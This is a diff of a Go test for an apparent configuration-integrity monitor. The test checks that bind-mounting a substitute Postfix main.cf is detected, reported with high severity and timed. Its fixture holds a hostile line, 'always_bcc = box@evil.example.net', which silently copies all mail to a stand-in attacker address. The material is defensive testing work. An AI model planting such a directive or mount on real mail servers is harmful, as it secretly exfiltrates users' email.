@@ -468,3 +468,39 @@ func TestDropInAppears(t *testing.T) {
 		t.Errorf("severity %s, unobserved %v", f.Severity, f.Unobserved)
 	}
 }
+
+// TestMountOver: what is mounted over the configuration is told within a second, with
+// the time in which it must have happened, and with nobody's name.
+func TestMountOver(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	h.must("seal")
+	w := h.watch()
+	defer w.stop()
+	other := filepath.Join(t.TempDir(), "main.cf")
+	if err := os.WriteFile(other, []byte("myhostname = mail.example.test\nalways_bcc = box@evil.example.net\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	at := h.path("/etc/postfix/main.cf")
+	before := time.Now()
+	if err := syscall.Mount(other, at, "", syscall.MS_BIND, ""); err != nil {
+		t.Skipf("no right to mount: %v", err)
+	}
+	t.Cleanup(func() { _ = syscall.Unmount(at, syscall.MNT_DETACH) })
+	f := w.find("the mount", func(f told) bool {
+		return strings.Contains(strings.Join(f.Reasons, "\n"), "another file system is mounted over /etc/postfix/main.cf")
+	})
+	if f.Severity < waxseal.High || f.Actor != nil && f.Actor.Process.Grade != waxseal.Unknown {
+		t.Errorf("%s by %+v", f.Severity, f.Actor)
+	}
+	if g := f.Unobserved; g == nil || g.From.After(before) || !g.Until.After(before) || g.Until.Sub(before) > 3*time.Second {
+		t.Errorf("unobserved %+v, mounted at %s", g, before)
+	}
+	if out, code := h.run("check"); code != 1 || !strings.Contains(out, "mounted over /etc/postfix/main.cf") {
+		t.Errorf("check: exit code %d\n%s", code, out)
+	}
+	if err := syscall.Unmount(at, syscall.MNT_DETACH); err != nil {
+		t.Fatal(err)
+	}
+	w.find("the end of the mount", func(f told) bool { return f.Change != nil && len(f.Change.Hooks.Removed) > 0 })
+}
